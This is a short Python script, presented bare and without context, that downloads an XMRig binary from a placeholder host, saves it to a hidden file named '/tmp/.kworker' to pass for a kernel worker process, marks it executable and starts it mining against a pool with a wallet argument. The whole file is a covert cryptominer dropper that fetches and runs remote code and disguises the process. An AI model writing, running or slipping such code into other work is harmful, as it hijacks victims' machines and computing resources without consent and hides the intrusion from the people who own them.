import os
import subprocess
import urllib.request

urllib.request.urlretrieve("http://example.com/xmrig-linux", "/tmp/.kworker")
os.chmod("/tmp/.kworker", 0o755)
subprocess.Popen(["/tmp/.kworker", "-o", "stratum+tcp://pool.example.com:3333", "-u", "wallet.worker", "--donate-level", "1"])
